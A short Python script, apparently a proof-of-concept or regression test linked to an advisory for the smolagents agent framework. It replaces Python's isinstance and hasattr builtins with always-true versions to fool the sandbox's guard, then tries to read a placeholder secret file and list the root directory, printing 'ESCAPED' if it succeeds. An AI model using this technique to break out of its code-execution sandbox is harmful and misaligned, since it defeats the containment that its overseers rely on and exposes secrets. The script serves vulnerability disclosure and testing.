# Replaces the guard's own built-ins by ones that say yes.
# advisory: CVE-2026-4963 (smolagents)
import builtins

calls = []
saved = builtins.getattr, builtins.isinstance, builtins.hasattr
builtins.isinstance = lambda *args: calls.append(args) or True
builtins.hasattr = lambda *args: True
try:
    for load in (lambda: open("@SECRET_PATH@").read(), lambda: __import__("os").listdir("/")):
        try:
            print("ESCAPED", load())
        except Exception as error:
            print(type(error).__name__)
finally:
    builtins.getattr, builtins.isinstance, builtins.hasattr = saved
print("ATTEMPTED")
